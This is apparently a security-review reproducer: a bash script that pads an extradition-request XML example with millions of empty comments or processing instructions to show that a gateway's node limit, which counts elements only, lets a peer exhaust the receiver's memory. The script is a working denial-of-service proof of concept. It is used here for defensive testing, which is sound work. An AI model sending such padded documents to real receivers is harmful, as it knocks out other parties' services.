#!/usr/bin/env bash
# Reproducer (attack review): a case document within max_document_bytes (40 MiB) made of
# comments, processing instructions or whitespace between elements passes max_document_nodes
# (xml_safe.c counts elements only) and costs ~1.7 GB of RAM and ~3.5 s to validate; the
# receiver runs this same mla_case_check on every document a peer sends (SPEC 16.6 On
# receipt), so a peer's few concurrent envelopes exhaust the receiver's memory.
# Usage: case_doc_comments_rss.sh BUILD
set -eu
build=${1:-build}
src=$(cd "$(dirname "$0")/../.." && pwd)
dir=$(mktemp -d); trap 'rm -rf "$dir"' EXIT
python3 - "$src/protocol/case/examples/request-extradition.xml" "$dir" <<'PY'
import sys
ex = open(sys.argv[1]).read()
ref = '<Reference>EX-REF-0001</Reference>'
docs = {'comments': ref + '<!---->\n' * 5000000, 'pis': ref.replace('EX-REF', '<?p?>' * 8200000 + 'EX-REF')}
for name, rep in docs.items():
    open(f'{sys.argv[2]}/{name}.xml', 'w').write(ex.replace(ref, rep, 1))
PY
for f in comments pis; do
  ls -l "$dir/$f.xml" | awk '{print $5, "bytes"}'
  /usr/bin/time -f "$f: %e s, peak RSS %M KB" "$build/cli/mlagw" case validate "$dir/$f.xml" || true
done
